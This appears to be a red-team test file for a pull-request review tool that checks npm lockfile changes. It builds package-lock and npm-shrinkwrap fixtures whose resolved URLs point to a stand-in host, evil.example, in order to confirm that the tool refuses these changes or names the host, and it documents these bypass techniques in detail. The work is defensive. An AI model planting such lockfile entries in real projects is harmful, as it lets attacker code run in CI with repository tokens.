/**
 * Red team R61 (base 1965d72): how the review reads what npm installs, against the npm that runs
 * here (npm 11's arborist, loadVirtual, as the oracle).
 *
 * R61-1 (high): npm reads the project's own bundleDependencies from its package.json (arborist's
 * loadVirtual takes the root node's package from package.json, never from the lock's root entry),
 * and fetches what a package the project bundles bundles in turn from the lock's `resolved`
 * (getBundler stops at the root: R58-1). The review refused a head package.json that bundles only
 * when the pull request changed package.json, and lockedEngine read the project's bundle from the
 * lock's root entry. So a base whose package.json bundles orgctl let a pull request changing
 * package-lock.json alone (its root entry bundling nothing) install orgctl's yaml from any host,
 * marked inBundle under orgctl: the head proof was accepted, the approval named nothing outside,
 * and once merged the review job's npm ci installs it under orgctl, which runs it with its token.
 */
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { judgeLockChange, judgeUpgradeCommits, lockedProject, reviewByAliceAlone } from './base-lock-project.ts';
import { ROOT, tempDir } from './helpers.ts';

const SHA512 = `sha512-${'A'.repeat(86)}==`;
const VERSION = JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8')).version as string;
const NEW = '9.0.0-test';
const npmRoot = join(execFileSync('npm', ['root', '-g'], { encoding: 'utf8' }).trim(), 'npm');
const Arborist = createRequire(join(npmRoot, 'package.json'))('@npmcli/arborist') as new (o: {
  path: string;
}) => {
  loadVirtual(): Promise<{ inventory: Map<string, { inDepBundle: boolean }> }>;
};

/** A registry's orgctl at `version`, pinned by a sha512, with `fields`. */
const fromRegistry = (version: string, fields: Record<string, unknown> = {}) => ({
  version,
  resolved: `https://registry.npmjs.org/orgctl/-/orgctl-${version}.tgz`,
  integrity: SHA512,
  ...fields,
});

/** A lock of `root` (its entry `lockRoot`, as the lock writes it) and `packages`. */
const lockOf = (lockRoot: Record<string, unknown>, packages: Record<string, unknown>) =>
  JSON.stringify({ ...lockRoot, lockfileVersion: 3, requires: true, packages: { '': lockRoot, ...packages } });

/** What the npm here fetches from its own `resolved` at `path`, for a project of `files`. */
async function npmFetches(files: Record<string, string>, path: string): Promise<boolean> {
  const dir = tempDir('orgctl-r61-npm-');
  for (const [name, text] of Object.entries(files)) writeFileSync(join(dir, name), text);
  const tree = await new Arborist({ path: dir }).loadVirtual();
  const node = tree.inventory.get(path);
  if (!node) throw new Error(`npm installs nothing at ${path}`);
  return !node.inDepBundle;
}

describe("R61-1: the project's bundle is its package.json's, whatever the lock's root entry says (fails by design on 1965d72)", () => {
  const bundling = { name: 'acme-org', version: '1.0.0', dependencies: { orgctl: `^${VERSION}` } };
  const manifest = JSON.stringify({ ...bundling, bundleDependencies: ['orgctl'] }, null, 2);
  const baseLock = lockOf(
    { ...bundling, bundleDependencies: ['orgctl'] },
    { 'node_modules/orgctl': fromRegistry(VERSION) },
  );
  /** Head's lock: orgctl NEW bundling yaml, from evil.example; its root entry bundling nothing. */
  const headLock = lockOf(
    { ...bundling, dependencies: { orgctl: `^${NEW}` } },
    {
      'node_modules/orgctl': fromRegistry(NEW, { dependencies: { yaml: '^2.9.1' }, bundleDependencies: ['yaml'] }),
      'node_modules/orgctl/node_modules/yaml': {
        version: '2.9.1',
        resolved: 'https://evil.example/yaml-2.9.1.tgz',
        integrity: SHA512,
        inBundle: true,
      },
    },
  );
  const YAML = 'node_modules/orgctl/node_modules/yaml';

  it("the oracle: npm fetches orgctl's yaml from its resolved (evil.example), the project bundling orgctl", async () => {
    expect(await npmFetches({ 'package.json': manifest, 'package-lock.json': headLock }, YAML)).toBe(true);
  });

  it('an upgrade changing package-lock.json alone, base bundling orgctl: refused, the bundle named', () => {
    const r = judgeLockChange(NEW, manifest, baseLock, headLock);
    expect(r.code).toBe(1);
    expect(r.engine).toMatch(/❌.*bundleDependencies/);
    expect(r.proof).toMatch(/❌.*not accepted.*bundleDependencies/);
  });
});

/**
 * R61-2 (medium): npm installs head's npm-shrinkwrap.json in place of its package-lock.json (R54-1),
 * but the review took only a change of package.json or package-lock.json for an upgrade of
 * orgctl: a pull request adding or changing npm-shrinkwrap.json alone was an engine change whose
 * approval was told nothing of what it trusts (no orgctl version, no source), where the same
 * change of package-lock.json names orgctl's source and the first package from elsewhere. Once
 * merged, the review job's npm ci installs what the shrinkwrap names and runs it with its token.
 */
describe('R61-2: an approval of a change to npm-shrinkwrap.json is told what it installs (fails by design on 1965d72)', () => {
  const project = { name: 'acme-org', version: '1.0.0', dependencies: { orgctl: `^${VERSION}` } };
  const manifest = JSON.stringify(project, null, 2);
  const registryLock = lockOf(project, { 'node_modules/orgctl': fromRegistry(VERSION) });
  /** A lock installing orgctl VERSION from evil.example's tarball. */
  const evilLock = lockOf(project, {
    'node_modules/orgctl': { ...fromRegistry(VERSION), resolved: `https://evil.example/orgctl-${VERSION}.tgz` },
  });

  it('the oracle: npm installs orgctl from the shrinkwrap (evil.example), not from package-lock.json', async () => {
    const dir = tempDir('orgctl-r61-npm-');
    writeFileSync(join(dir, 'package.json'), manifest);
    writeFileSync(join(dir, 'package-lock.json'), registryLock);
    writeFileSync(join(dir, 'npm-shrinkwrap.json'), evilLock);
    const tree = (await new Arborist({ path: dir }).loadVirtual()) as unknown as {
      inventory: Map<string, { resolved: string }>;
    };
    expect(tree.inventory.get('node_modules/orgctl')?.resolved).toBe(`https://evil.example/orgctl-${VERSION}.tgz`);
  });

  it.each([
    ['added beside the package-lock.json base installs', { 'package-lock.json': registryLock }],
    ['changed, base installing from its own npm-shrinkwrap.json', { 'npm-shrinkwrap.json': registryLock }],
  ])('npm-shrinkwrap.json %s: the approval names evil.example', (_, base) => {
    const r = judgeUpgradeCommits(
      VERSION,
      { 'package.json': manifest, ...base },
      { 'package.json': manifest, ...base, 'npm-shrinkwrap.json': evilLock },
      ['npm-shrinkwrap.json'],
    );
    expect(r.engine).toMatch(/npm-shrinkwrap\.json.*evil\.example/);
  });

  it('a guard: an empty npm-shrinkwrap.json, which npm ignores, leaves the approval told what package-lock.json installs', async () => {
    const dir = tempDir('orgctl-r61-npm-');
    writeFileSync(join(dir, 'package.json'), manifest);
    writeFileSync(join(dir, 'package-lock.json'), evilLock);
    writeFileSync(join(dir, 'npm-shrinkwrap.json'), '');
    const tree = (await new Arborist({ path: dir }).loadVirtual()) as unknown as {
      inventory: Map<string, { resolved: string }>;
    };
    expect(tree.inventory.get('node_modules/orgctl')?.resolved).toMatch(/evil\.example/); // the oracle
    const r = judgeUpgradeCommits(
      VERSION,
      { 'package.json': manifest, 'package-lock.json': registryLock },
      { 'package.json': manifest, 'package-lock.json': evilLock, 'npm-shrinkwrap.json': '' },
      ['package-lock.json', 'npm-shrinkwrap.json'],
    );
    expect(r.engine).toMatch(/which head's package-lock\.json installs.*evil\.example/);
  });
});

/**
 * R61-2's class: an upgrade whose head lock the review cannot read as npm does (git's conflict
 * markers, which npm merges as it sees fit: R59-3) had its approval told nothing either, where npm
 * installs the merge (evil.example's orgctl, here).
 */
describe("R61-2's class: an upgrade's approval is told when head's lock cannot be read (fails by design on 1965d72)", () => {
  const project = { name: 'acme-org', version: '1.0.0', dependencies: { orgctl: `^${VERSION}` } };
  const manifest = JSON.stringify(project, null, 2);
  const conflicted = [
    '{',
    `  "name": "acme-org", "version": "1.0.0", "lockfileVersion": 3, "requires": true,`,
    '  "packages": {',
    `    "": ${JSON.stringify(project)},`,
    '<<<<<<< HEAD',
    `    "node_modules/orgctl": ${JSON.stringify({ ...fromRegistry(VERSION), resolved: 'https://evil.example/orgctl.tgz' })}`,
    '||||||| base',
    `    "node_modules/orgctl": ${JSON.stringify(fromRegistry(VERSION))}`,
    '=======',
    `    "node_modules/orgctl": ${JSON.stringify(fromRegistry(VERSION))}`,
    '>>>>>>> theirs',
    '  }',
    '}',
  ].join('\n');

  it('the oracle: npm installs the merge of a conflicted package-lock.json (orgctl from evil.example)', async () => {
    const dir = tempDir('orgctl-r61-npm-');
    writeFileSync(join(dir, 'package.json'), manifest);
    writeFileSync(join(dir, 'package-lock.json'), conflicted);
    const tree = (await new Arborist({ path: dir }).loadVirtual()) as unknown as {
      inventory: Map<string, { resolved: string }>;
    };
    expect(tree.inventory.get('node_modules/orgctl')?.resolved).toBe('https://evil.example/orgctl.tgz');
  });

  it("head's package-lock.json with git's conflict markers: the approval is told what it cannot know", () => {
    const baseLock = lockOf(project, { 'node_modules/orgctl': fromRegistry(VERSION) });
    const r = judgeLockChange(VERSION, manifest, baseLock, conflicted);
    expect(r.engine).toMatch(/approving it trusts .*conflict markers/);
  });
});

/**
 * R61-3 (low): npm installs what a dependency's own npm-shrinkwrap.json lists (a lock entry marked
 * hasShrinkwrap), and a `file:` source there is read from the dependency's folder: `../../org/x`
 * is the repository's org/x, copied in by npm ci (npm 11 refuses only a link resolving outside it).
 * The review read base's lock alone, so org/x, which base's npm ci installs, was one admin's to
 * change. It needs a dependency whose pinned tarball names the repository's folder; the review now
 * fails closed on any hasShrinkwrap entry of base's lock, as it refuses one in head's (R59-6).
 */
describe("R61-3: a dependency of base's lock with its own shrinkwrap (fails by design on 1965d72)", () => {
  it("org/x, which foo's own npm-shrinkwrap.json installs, is not one admin's to change", async () => {
    const dir = tempDir('orgctl-r61-3-');
    mkdirSync(join(dir, 'src/package'), { recursive: true });
    const foo = { name: 'foo', version: '1.0.0', dependencies: { bar: 'file:../../org/x' } };
    writeFileSync(join(dir, 'src/package/package.json'), JSON.stringify(foo));
    writeFileSync(
      join(dir, 'src/package/npm-shrinkwrap.json'),
      lockOf(foo, { 'node_modules/bar': { version: '1.0.0', resolved: 'file:../../org/x' } }),
    );
    execFileSync('tar', ['czf', 'foo-1.0.0.tgz', '-C', 'src', 'package'], { cwd: dir });
    const integrity = `sha512-${createHash('sha512')
      .update(readFileSync(join(dir, 'foo-1.0.0.tgz')))
      .digest('base64')}`;
    const tarball = `file:${join(dir, 'foo-1.0.0.tgz')}`;
    const dist = lockedProject('0.1.0', { 'node_modules/orgctl': fromRegistry('0.1.0') });
    const project = join(dist, '..');
    const root = { name: 'acme-org', version: '1.0.0', dependencies: { foo: tarball } };
    writeFileSync(join(project, 'package.json'), JSON.stringify(root));
    writeFileSync(
      join(project, 'package-lock.json'),
      lockOf(root, { 'node_modules/foo': { version: '1.0.0', resolved: tarball, integrity, hasShrinkwrap: true } }),
    );
    mkdirSync(join(project, 'org/x'), { recursive: true });
    writeFileSync(join(project, 'org/x/package.json'), JSON.stringify({ name: 'bar', version: '1.0.0' }));
    writeFileSync(join(project, 'org/x/index.js'), 'module.exports = "org/x";');
    execFileSync('npm', ['ci', '--ignore-scripts', '--offline', '--no-audit', '--no-fund'], {
      cwd: project,
      stdio: 'pipe',
    });
    // The oracle: npm ci installs the repository's org/x under foo.
    expect(readFileSync(join(project, 'node_modules/foo/node_modules/bar/index.js'), 'utf8')).toContain('org/x');
    rmSync(join(project, 'node_modules'), { recursive: true });
    // The review's base: the same foo, from npm's registry (a tarball outside the repository is engine already).
    const registryFoo = { version: '1.0.0', resolved: 'https://registry.npmjs.org/foo/-/foo-1.0.0.tgz', integrity };
    const fromNpm = { ...root, dependencies: { foo: '1.0.0' } };
    writeFileSync(join(project, 'package.json'), JSON.stringify(fromNpm));
    writeFileSync(
      join(project, 'package-lock.json'),
      lockOf(fromNpm, { 'node_modules/foo': { ...registryFoo, hasShrinkwrap: true } }),
    );
    const r = await reviewByAliceAlone(dist, ['org/x/index.js']);
    expect(r.code).toBe(1);
    expect(r.stdout.match(/\| `engine-change` \|[^\n]*/)?.[0]).toMatch(/❌.*hasShrinkwrap/);
  });
});
